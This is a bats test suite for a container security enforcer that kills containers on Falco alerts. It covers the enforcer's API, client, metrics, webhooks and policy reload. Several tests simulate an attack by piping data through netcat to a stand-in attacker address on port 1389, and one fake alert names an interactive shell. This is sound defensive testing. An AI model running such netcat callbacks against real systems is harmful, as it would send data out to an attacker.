#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# The HTTP API and its client.

load story

setup_file() { story_open; }
teardown_file() { story_close; }
teardown() { story_quiet; }

# What Falco's http_output sends, for CONTAINER.
falco_alert() {
  jq -nc --arg id "$1" --arg rule "$C2_RULE" '{
    hostname: "node-7", priority: "Warning", rule: $rule, source: "syscall",
    tags: ["network"], time: "2026-01-02T03:04:05.678901234Z",
    output: "03:04:05.678901234: Warning a shell called home",
    output_fields: {"container.id": $id, "fd.rport": 1389,
      "proc.cmdline": "sh -i"}}'
}

@test "a violation from Falco kills the container it names" {
  service "$KILL_POLICY"
  contained_detached reported sleep 100
  run answer POST /v1/violations --json "$(falco_alert reported)"
  says $'\n202'
  jq -e .id <<<"${lines[0]}"
  wait_until 10 "its end" cgroup_empty "$RUN_NAME/reported"
  event "$C2_RULE" ".bailiff.policy == \"$BLOCK_POLICY\"
    and .bailiff.enforcement == \"external\"
    and .bailiff.outcome == \"killed\""
}

@test "an operator kills over the API" {
  service "$KILL_POLICY"
  contained_detached doomed sleep 100
  run answer POST /v1/containers/doomed/kill \
    --json '{"reason":"drill"}'
  ((status == 0))
  says killed
  wait_until 10 "its end" cgroup_empty "$RUN_NAME/doomed"
  run answer POST /v1/containers/nobody/kill --json '{}'
  says $'\n404'
}

@test "an operator kills with the client, by the pod's name" {
  service "$KILL_POLICY"
  contained_detached felled sleep 100
  run bailiff_api kill web/shop-0/shop --reason drill
  ((status == 0))
  wait_until 10 "its end" cgroup_empty "$RUN_NAME/felled"
}

@test "ps, events and status tell what there is" {
  service "$REFUSE_POLICY"
  contained_detached shown sleep 100
  mapfile -d '' -t command < <(connects_to "$ATTACKER4")
  run bailiff_runc exec shown "${command[@]}"
  event "$C2_RULE"
  run bailiff_api ps
  ((status == 0))
  says shown registry.example/shop:1.4
  run bailiff_api ps -o json
  jq -e . <<<"$output"
  run bailiff_api events
  ((status == 0))
  says "$C2_RULE" denied
  run bailiff_api status
  ((status == 0))
  api GET /v1/containers | jq -e \
    '.containers[] | select(.id == "shown" and .state == "running")'
}

# followed NUMBER: so many launches were.
followed() {
  (($(grep -c "Launch new container" "$SCRATCH/followed") == $1))
}

@test "events --follow sees what happens next" {
  service "$KILL_POLICY"
  spawn "$SCRATCH/followed" "$BAILIFF_BIN/bailiff" \
    --api "unix:$SVC/run/bailiffd.sock" events --follow
  # It begins with some that there are, so that what has come shows it listens.
  run contained before true
  wait_until 10 "it to listen" followed 1
  run contained watched true
  wait_until 10 "the event" followed 2
}

@test "healthz, readyz and metrics" {
  service "$KILL_POLICY"
  api GET /healthz
  # Enforcing is shown by trying, not assumed.
  api GET /readyz |
    jq -e '.ready and (.checks[] | select(.name == "self_test") | .ok)'
  run contained counted sh -c "echo x | nc -w 3 $ATTACKER4 1389; sleep 60"
  event "$C2_RULE" '.bailiff.outcome == "killed"'
  metric '^bailiff_violations_total{.*verdict="denied"} [1-9]'
  metric '^bailiff_responses_total{.*outcome="killed".*} [1-9]'
  metric '^bailiff_response_seconds_count [1-9]'
  metric '^bailiff_build_info'
  metric '^bailiff_self_test 1$'
}

@test "the web page is there" {
  service "$KILL_POLICY"
  api GET / | grep -qi '<html'
}

@test "doctor shows that this host enforces" {
  service "$KILL_POLICY"
  run bailiff_api doctor
  says "self-test"
}

# receiver PORT: a webhook receiver; its port is in $SCRATCH/port.
receiver() {
  (umask 077 && echo opensesame >"$SCRATCH/secret")
  rm -f "$SCRATCH/port" "$SCRATCH/received"
  spawn "$SCRATCH/receiver.err" python3 \
    "$REPO_DIR/examples/log4shell/webhook_receiver.py" --port "$1" \
    --secret-file "$SCRATCH/secret" --port-file "$SCRATCH/port" \
    --out "$SCRATCH/received"
  wait_until 10 "the receiver" test -s "$SCRATCH/port"
}

@test "a webhook gets the alert, signed" {
  receiver 0
  service "$KILL_POLICY" "sinks: [{name: soc, type: webhook,
    url: \"http://127.0.0.1:$(<"$SCRATCH/port")/\",
    secret_file: $SCRATCH/secret}]"
  run contained signed sh -c "echo x | nc -w 3 $ATTACKER4 1389; sleep 60"
  wait_until 10 "the alert" grep -q "$C2_RULE" "$SCRATCH/received"
  jq -es 'all(.signature == "valid" and (.repeat | not))
    and any(.alert.bailiff.verdict == "denied")
    and all(.alert | .hostname == "testnode" and .uuid and .time
      and .priority and .output and .output_fields and .tags)' \
    "$SCRATCH/received"
}

@test "an alert waits for its receiver, and comes once" {
  receiver 0
  port=$(<"$SCRATCH/port")
  kill "$SPAWNED_PID"
  wait_until 10 "the receiver to end" test ! -e "/proc/$SPAWNED_PID/exe"
  service "$KILL_POLICY" "sinks: [{name: soc, type: webhook,
    url: \"http://127.0.0.1:$port/\", secret_file: $SCRATCH/secret}]"
  run contained early sh -c "echo x | nc -w 3 $ATTACKER4 1389; sleep 60"
  event "$C2_RULE" '.bailiff.outcome == "killed"'
  wait_until 10 "a failed attempt" \
    metric '^bailiff_alerts_total{.*result="retried"} [1-9]'
  receiver "$port"
  wait_until 60 "the alert" grep -q "$C2_RULE" "$SCRATCH/received"
  jq -es 'all(.repeat | not)' "$SCRATCH/received"
}

@test "reload takes a new policy, and refuses a wrong one whole" {
  cp "$KILL_POLICY" "$SCRATCH/rules/changing.yaml"
  service "$SCRATCH/rules/changing.yaml"
  cp "$REFUSE_POLICY" "$SCRATCH/rules/changing.yaml"
  api POST /v1/reload --json '{}'
  event "Operator response" '.bailiff.response == "reload"
    and .bailiff.outcome == "reloaded"'
  api GET /v1/policies | jq -e '.. | objects | select(.name == "Refuse")'
  echo 'policies: [{name: P, rules: ["No such rule"]}]' \
    >"$SCRATCH/rules/changing.yaml"
  run answer POST /v1/reload --json '{}'
  says $'\n422' "No such rule"
  api GET /v1/policies | jq -e '.. | objects | select(.name == "Refuse")'
}
